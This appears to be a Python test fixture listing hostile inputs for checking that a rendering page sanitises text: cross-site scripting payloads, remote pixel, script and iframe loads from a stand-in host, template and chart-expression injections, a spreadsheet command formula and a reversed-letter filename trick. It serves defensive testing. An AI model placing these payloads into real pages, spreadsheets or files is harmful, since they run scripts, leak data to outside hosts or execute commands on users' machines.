"""Texts that somebody may send so that a page that shows them runs a script or asks another host."""

HOST = "evil.example.test"
HOSTILE = (
    f"![pixel](https://{HOST}/p.png)",
    "[link](javascript:alert(1))",
    f"[link](https://{HOST}/)",
    "<img src=x onerror=alert(1)>",
    f'<img src="https://{HOST}/p.png">',
    "<script>alert(1)</script>",
    f'"><script src=//{HOST}/s.js></script>',
    "<svg/onload=alert(1)>",
    f"<link rel=stylesheet href=//{HOST}/s.css>",
    f"<iframe src=//{HOST}></iframe>",
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    f"https://{HOST}/",
    "$\\href{javascript:alert(1)}{x}$",
    f"$$\\includegraphics{{https://{HOST}/p.png}}$$",
    ":material/home: :red[x] :smile: :red-background[y]",
    '{"$schema":"https://vega.github.io/schema/vega/v5.json","signals":[{"init":"alert(1)"}]}',
    "datum.x; alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`alert(1)`",
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\u202egnp.exe",
)
"""Scripts, links, Markdown, mathematics, icons, expressions of charts, templates, formulas, turned letters."""

FORMULAS = tuple(text for text in HOSTILE if text[0] in "=+-@")
"""Those that a spreadsheet takes for formulas."""
